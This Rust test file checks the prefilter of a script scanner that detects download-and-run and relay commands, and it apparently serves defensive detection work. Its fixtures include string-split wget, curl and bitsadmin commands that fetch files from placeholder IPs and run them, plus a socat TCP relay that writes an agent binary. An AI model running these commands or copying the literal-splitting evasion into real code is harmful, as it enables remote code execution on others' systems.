//! Tests of the prefilter's conditions on the built-in catalogue.

use super::*;

fn pf() -> &'static Prefilter {
    builtin(catalog::get()).expect("built-in catalogue")
}

fn file(lang: RuleLang, lines: &[(usize, &str)]) -> bool {
    may_hit(catalog::get(), lang, lines)
}

#[test]
fn case_insensitive_patterns_match_in_any_case() {
    // com-http is (?i): a WSH file calling it in capitals is analysed.
    assert!(file(
        RuleLang::Wsh,
        &[(1, "Set x = CreateObject(\"MSXML2.XMLHTTP\")")]
    ));
    assert!(!file(
        RuleLang::Python,
        &[(1, "x = compute(y)"), (2, "return x")]
    ));
}

#[test]
fn needs_are_a_second_condition_across_lines() {
    // python-socket-file: a socket and a file write, anywhere in the file.
    let sock = (1, "s = socket.socket()");
    let write = (7, "f = open(p, 'wb')");
    assert!(!file(RuleLang::Python, &[sock]));
    assert!(file(RuleLang::Python, &[sock, (2, "x = 1"), write]));
    assert!(file(RuleLang::Python, &[write, sock]));
    // python-http-alias: `import requests as r` alone is not enough.
    assert!(!file(RuleLang::Python, &[(1, "import requests as r")]));
}

#[test]
fn lines_without_a_rule_literal_skip_the_rule_set() {
    let cat = catalog::get();
    let urllib = cat.rule_index("python-urllib").unwrap();
    let rules = text_rules(cat, RuleLang::Python, "urlretrieve(u, p)");
    assert!(rules.contains(&urllib), "{rules:?}");
    assert_eq!(rules, cat.text_rules("urlretrieve(u, p)", RuleLang::Python));
    assert!(text_rules(cat, RuleLang::Python, "import os").is_empty());
    assert!(text_rules(cat, RuleLang::Js, "const x = path.join(a, b)").is_empty());
}

#[test]
fn string_joins_and_words() {
    for joins in ["a = 'x' + 'y'", "+ 'b')", "'a' &", "\"a\"\t+\"b\""] {
        assert!(may_join(joins.as_bytes()), "{joins}");
    }
    for not in ["a = b + 'y'", "x += 1", "if (a && b)", "s = 'a' + b"] {
        assert!(!may_join(not.as_bytes()), "{not}");
    }
    assert!(file(RuleLang::Ruby, &[(1, "sh 'make'")]));
    assert!(!file(RuleLang::Ruby, &[(1, "push_item(shape)")]));
}

#[test]
fn the_builtin_rules_leave_the_test_on_for_code_languages() {
    for l in LANGS.into_iter().filter(|l| file_tested(*l)) {
        assert!(
            pf().filters(catalog::get(), l),
            "{l:?}: a text rule of this language has no literal every match holds \
             (the prefilter is off for it: give the pattern a literal)"
        );
    }
}

#[test]
fn joined_literals_are_found_through_the_prefilter() {
    use crate::inspect::script::{analyze_file, analyze_unfiltered};
    let cat = catalog::get();
    // The program's name exists only once the literals are joined. (These
    // files also pass the file gate by their call markers; `joins_literals`
    // keeps such files in even without one.)
    let cases: [(&str, &str); 3] = [
        (
            "python",
            "import os\nos.system('wg' + 'et -q -O /tmp/x 198.51.100.7/x && sh /tmp/x')\n",
        ),
        (
            "php",
            "<?php\nshell_exec(\"cu\" . \"rl -s -o /tmp/y 203.0.113.9:8080/y\");\n",
        ),
        (
            "perl",
            "use strict;\nsystem('bitsad' . 'min /transfer j 198.51.100.7/z C:\\\\z.exe');\n",
        ),
    ];
    for (lang, text) in cases {
        let full = analyze_unfiltered(cat, lang, text.as_bytes(), false);
        assert!(!full.hits.is_empty(), "{lang}: the joined command is found");
        let filtered = analyze_file(cat, lang, text.as_bytes(), false);
        assert_eq!(filtered, full, "{lang}: {text}");
    }
    // Without a join the gate still skips a file no rule can hit.
    assert!(!file(
        RuleLang::Python,
        &[(1, "x = 'a' + b"), (2, "y = c + 'd'")]
    ));
}

#[test]
fn a_join_alone_keeps_a_file_in() {
    use crate::inspect::command::code::code_lines;
    use crate::inspect::script::{analyze_file, analyze_unfiltered};
    let cat = catalog::get();
    // A tool's name split in two literals (`'so' + 'cat …'`) and nothing
    // else the file gate looks for: no `://`, no call that runs text, no
    // base64 hint, no literal of any rule. Only `joins_literals` keeps
    // these files in; without it the relay (a file fetched over TCP) goes unseen.
    let cases: [(&str, RuleLang, &str); 4] = [
        (
            "python",
            RuleLang::Python,
            "import sys\nhost = sys.argv[1]\nrelay = 'so' + 'cat TCP:' + host + ':4444 CREATE:/usr/local/bin/agent'\nprint(relay)\n",
        ),
        (
            "ruby",
            RuleLang::Ruby,
            "host = ARGV[0]\nrelay = 'so' + 'cat TCP:' + host + ':4444 CREATE:/usr/local/bin/agent'\nputs relay\n",
        ),
        (
            "perl",
            RuleLang::Perl,
            "my $host = shift;\nmy $relay = 'so' . 'cat TCP:' . $host . ':4444 CREATE:/usr/local/bin/agent';\nprint $relay;\n",
        ),
        (
            "php",
            RuleLang::Php,
            "<?php\n$host = $argv[1];\n$relay = 'so' . 'cat TCP:' . $host . ':4444 CREATE:/usr/local/bin/agent';\nprint $relay;\n",
        ),
    ];
    for (lang, rule_lang, text) in cases {
        let full = analyze_unfiltered(cat, lang, text.as_bytes(), false);
        let ids: Vec<&str> = (full.hits.iter())
            .map(|h| cat.rules[h.rule].id.as_str())
            .collect();
        assert_eq!(
            ids,
            ["socat-addresses"],
            "{lang}: the joined command is found"
        );
        let filtered = analyze_file(cat, lang, text.as_bytes(), false);
        assert_eq!(filtered, full, "{lang}: {text}");
        // The same file with the two literals not joined (`'so', 'cat …'`)
        // gives the gate nothing else: the join alone keeps it in.
        let apart = text.replace("' + '", "', '").replace("' . '", "', '");
        assert!(
            !file(rule_lang, &code_lines(rule_lang, &apart)),
            "{lang}: {apart}"
        );
        assert!(joins_literals(rule_lang, &code_lines(rule_lang, text)));
    }
}

#[test]
fn the_line_scanner_moves_to_a_dfa_with_the_same_answers() {
    let cat = catalog::get();
    // Fresh copies of Python's tests: the shared one may have moved on.
    let (nfa, dfa) = (
        pf().build(cat, RuleLang::Python),
        pf().build(cat, RuleLang::Python),
    );
    let n = nfa.line.as_ref().expect("line conditions").full.len();
    let run = |t: &LangTests, l: &str| {
        let mut found = vec![0u64; n];
        let m = t
            .scanner
            .as_ref()
            .expect("a line scanner")
            .scan(l.as_bytes(), &mut found);
        (m, found)
    };
    let uses_dfa = || dfa.scanner.as_ref().unwrap().uses_dfa();
    let lines = [
        "urllib.request.urlretrieve('http://x/y', p)",
        "total = count + 1",
        "os.system(cmd)",
        "base64.b64decode(s)",
        "x = requests.get(URL).content",
        "os.getcwd()",
    ];
    let before: Vec<_> = lines.iter().map(|l| run(&nfa, l)).collect();
    // Exactly TO_DFA bytes go through the NFA; the next statement builds
    // the DFA.
    run(&dfa, &"x".repeat(line::TO_DFA - 1));
    run(&dfa, "y");
    assert!(!uses_dfa(), "not before TO_DFA bytes went through");
    run(&dfa, "y");
    assert!(uses_dfa());
    let after: Vec<_> = lines.iter().map(|l| run(&dfa, l)).collect();
    assert_eq!(before, after);
    assert!(!nfa.scanner.as_ref().unwrap().uses_dfa());
    assert!(before[0].0.literal && before[0].0.hint, "{:?}", before[0].0);
    assert!(before[2].0.call && before[3].0.encoded);
    assert_eq!(before[1].0, line::Markers::default());
    // A hint alone is not a literal of any line condition.
    assert!(
        before[5].0.hint && !before[5].0.literal,
        "{:?}",
        before[5].0
    );
}

#[test]
fn the_gate_gives_the_rule_sets_rules_on_whole_case_files() {
    // The command engine sends multi-line text (nested code, written
    // scripts) through the gate too: on every case file, whole, in every
    // language, it must give what the set of every text rule gives.
    let cat = catalog::get();
    let mut hits = 0;
    for (set, text) in crate::inspect::golden_cases::SETS {
        let file: crate::inspect::multibyte_cases::CaseFile =
            toml::from_str(text).unwrap_or_else(|e| panic!("{set}: {e}"));
        for case in &file.case {
            for lang in LANGS {
                let gated = text_rules(cat, lang, &case.content);
                assert_eq!(
                    gated,
                    cat.text_rules(&case.content, lang),
                    "{set} {} {lang:?}",
                    case.id
                );
                hits += gated.len();
            }
        }
    }
    assert!(hits > 1000, "{hits}");
}

#[test]
fn an_exec_rules_literals_alone_do_not_open_a_file() {
    // python-exec reports only after a download rule matched: its
    // literals alone never make a file worth the line-by-line analysis.
    assert!(!file(RuleLang::Python, &[(1, "os.chmod(p, 0o755)")]));
    assert!(!file(RuleLang::Python, &[(1, "x = eval(expr)")]));
    // A language without a file test has none, however its rules read.
    assert!(
        pf().tests(catalog::get(), RuleLang::Sh)
            .unwrap()
            .file
            .is_none()
    );
}
